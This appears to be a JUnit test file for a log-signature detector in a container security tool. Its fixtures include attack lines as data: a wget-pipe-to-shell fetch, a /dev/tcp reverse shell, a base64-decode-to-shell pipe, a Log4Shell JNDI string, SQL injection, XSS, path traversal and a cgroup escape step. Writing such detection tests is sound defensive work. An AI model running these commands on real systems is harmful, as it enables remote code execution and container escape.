package dev.vigil.detect.logsig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SignatureSetTest {

  private static SignatureSet builtIn;

  @BeforeAll
  static void load() {
    builtIn = SignatureSet.builtIn();
  }

  private static List<String> ids(List<SignatureSet.Match> matches) {
    return matches.stream().map(m -> m.signature().id()).toList();
  }

  @Test
  void builtInSetIsLargeUniqueAndTaggedWithMitre() {
    assertThat(builtIn.size()).isGreaterThanOrEqualTo(200);
    assertThat(builtIn.patterns()).isGreaterThanOrEqualTo(1000);
    Set<String> ids = new HashSet<>();
    for (Signature s : builtIn.signatures()) {
      assertThat(ids.add(s.id())).as("unique id %s", s.id()).isTrue();
      assertThat(s.tags()).as("tags of %s", s.id()).contains("container", "log")
          .anyMatch(t -> t.startsWith("mitre_")).anyMatch(t -> t.matches("T\\d{4}(\\.\\d{3})?"));
      assertThat(s.description()).as("desc of %s", s.id()).isNotBlank();
      assertThat(s.origin()).startsWith("builtin:signatures/default.yaml:");
    }
    // Compact enough to keep in every agent.
    assertThat(builtIn.matcherBytes()).isLessThan(2L << 20);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '¦', quoteCharacter = '`', textBlock = """
      Nmap scan report for 10.0.3.7 ¦ nmap.report
      Starting Nmap 7.94SVN ( https://nmap.org ) at 2026-11-29 10:15 UTC ¦ nmap.banner
      10.0.0.9 - - [29/Nov/2026:10:15:32 +0000] "GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1" 200 ¦ log4shell.jndi
      GET /download?file=../../../../etc/passwd HTTP/1.1 ¦ traversal.plain
      GET /p?id=1 UNION SELECT username,password FROM users-- ¦ sqli.union
      GET /search?q=<script>alert(1)</script> ¦ xss.script-tag
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)" ¦ nikto
      sqlmap/1.8.2#stable (https://sqlmap.org) ¦ sqlmap
      [2026-11-29 10:15:32.123]  net      use pool stratum+tcp://pool.supportxmr.com:3333 ¦ stratum
      sshd[44]: Failed password for invalid user admin from 203.0.113.9 port 51234 ssh2 ¦ auth.sshd
      + sh -c 'wget http://203.0.113.7/x.sh -O- | sh' ¦ fetch.wget-url
      bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 ¦ revshell.interactive
      echo ZWNobyBoaQ== | base64 -d | sh ¦ base64-decode
      Gobuster v3.6 by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart) ¦ gobuster
      cmd.exe /c whoami ¦ cmd-exe
      -----BEGIN OPENSSH PRIVATE KEY----- ¦ secret.private-keys
      echo 1 > /tmp/cgrp/x/notify_on_release ¦ escape.cgroup-release-agent
      """)
  void builtInSetRecognisesAttackLines(String line, String expectedId) {
    assertThat(ids(builtIn.match(line))).contains(expectedId);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '¦', quoteCharacter = '`', textBlock = """
      10.57.157.153 - - [29/Nov/2026:10:15:32 +0000] "GET /api/v1/orders/422034 HTTP/1.1" 200 21405 "-" "curl/8.5.0"
      {"level":30,"time":1764411332058,"pid":1,"hostname":"api-2bc4","msg":"request completed","res":{"statusCode":200}}
      2026-11-29 10:15:32.252 UTC [6298] LOG:  duration: 75.499 ms  statement: SELECT o.id FROM orders o LIMIT 20
      2026-11-29T10:15:32.277Z  INFO 1 --- [nio-8080-exec-179] c.e.shop.cart.CartController : Order 656919 placed
      [2026-11-29 10:15:32,020: INFO/MainProcess] Task worker.tasks.export_report[dd57a646-03dc] received
      1:C 29 Nov 2026 10:31:27.711 * DB saved on disk; Background saving terminated with success (fork 84 ms)
      clamd[1]: virus scan report: /srv/uploads/invoice-1.pdf: OK (0 infected files)
      resolving ../assets/img/logo.png relative to /srv/www/static/css
      user 123 changed their password; sessions revoked
      profile updated: name="José Müller" city="Zürich" note="livraison à domicile — 配達 — доставка"
      """)
  void builtInSetLeavesOrdinaryLinesAlone(String line) {
    assertThat(builtIn.match(line)).isEmpty();
  }

  private static Signature sig(String id, boolean ignoreCase, String... patterns) {
    return new Signature(id, "Rule " + id, dev.vigil.alert.Priority.WARNING, List.of("t"), "", ignoreCase,
        List.of(patterns), "test:" + id);
  }

  @Test
  void eachSignatureIsReportedOnceInOrderOfFirstOccurrence() {
    SignatureSet set = SignatureSet.of(List.of(sig("a", true, "alpha", "ALPHA2"), sig("b", true, "beta"),
        sig("c", false, "Gamma")));
    List<SignatureSet.Match> m = set.match("beta alpha alpha2 beta gamma Gamma");
    assertThat(ids(m)).containsExactly("b", "a", "c");
    assertThat(m.get(0).start()).isZero();
    assertThat(m.get(1).pattern()).isEqualTo("alpha");
    assertThat(m.get(2).start()).isEqualTo(29);
    byte[] b = "xx beta".getBytes(StandardCharsets.UTF_8);
    assertThat(ids(set.match(b, 0, b.length))).containsExactly("b");
    assertThat(set.match("nothing here")).isEmpty();
  }

  @Test
  void anEmptySetMatchesNothing() {
    SignatureSet empty = SignatureSet.of(List.of());
    assertThat(empty.size()).isZero();
    assertThat(empty.match("${jndi:ldap://x}")).isEmpty();
  }

  @Test
  void loadsExtraFilesAndLeavesOutDisabledSignatures(@TempDir Path dir) throws Exception {
    Path extra = dir.resolve("extra.yaml");
    Files.writeString(extra, """
        groups:
          - group: shop
            rule: Shop-specific attack string
            priority: ERROR
            tags: [container, log, mitre_initial_access, T1190]
            signatures:
              - id: shop.coupon-abuse
                desc: coupon brute force marker of our own shop
                patterns: ["COUPON_BRUTEFORCE"]
        """);
    SignatureSet set = SignatureSet.load(true, List.of(extra), List.of("nmap.report", "auth.sshd"));
    assertThat(set.size()).isEqualTo(builtIn.size() + 1 - 2);
    assertThat(ids(set.match("coupon_bruteforce from 1.2.3.4"))).containsExactly("shop.coupon-abuse");
    assertThat(set.match("Nmap scan report for 10.0.0.1")).isEmpty();
    assertThat(SignatureSet.load(false, List.of(extra), List.of()).size()).isEqualTo(1);
  }

  @Test
  void unknownDisabledIdsAndDuplicateIdsAcrossFilesAreErrors(@TempDir Path dir) throws Exception {
    assertThatThrownBy(() -> SignatureSet.load(true, List.of(), List.of("nmap.report", "no-such-sig")))
        .isInstanceOf(SignatureFileException.class)
        .hasMessage("disabled_signatures names a signature that does not exist: no-such-sig");
    Path dup = dir.resolve("dup.yaml");
    Files.writeString(dup, "groups:\n  - group: g\n    rule: r\n    priority: info\n    signatures:\n"
        + "      - id: nmap.report\n        pattern: abcdef\n");
    assertThatThrownBy(() -> SignatureSet.load(true, List.of(dup), List.of()))
        .isInstanceOf(SignatureFileException.class)
        .hasMessage(dup + ":6: duplicate signature id 'nmap.report', already defined at "
            + "builtin:signatures/default.yaml:" + builtIn.signatures().stream()
                .filter(s -> s.id().equals("nmap.report")).findFirst().orElseThrow().origin().split(":")[2]);
    Path broken = dir.resolve("broken.yaml");
    Files.writeString(broken, "groups:\n  - group: g\n    rule: r\n    priority: info\n    signatures:\n"
        + "      - id: x\n        pattern: ab\n");
    assertThatThrownBy(() -> SignatureSet.load(false, List.of(broken), List.of()))
        .hasMessageStartingWith(broken + ":7:18: pattern 'ab' of signature x is 2 bytes");
    Path latin1 = dir.resolve("latin1.yaml");
    Files.write(latin1, new byte[] {'g', 'r', 'o', 'u', 'p', 's', ':', ' ', (byte) 0xE9, '\n'});
    assertThatThrownBy(() -> SignatureSet.load(false, List.of(latin1), List.of()))
        .isInstanceOf(SignatureFileException.class).hasMessage(latin1 + ": not UTF-8 text");
    assertThatThrownBy(() -> SignatureSet.load(false, List.of(dir.resolve("missing.yaml")), List.of()))
        .isInstanceOf(java.nio.file.NoSuchFileException.class);
  }
}
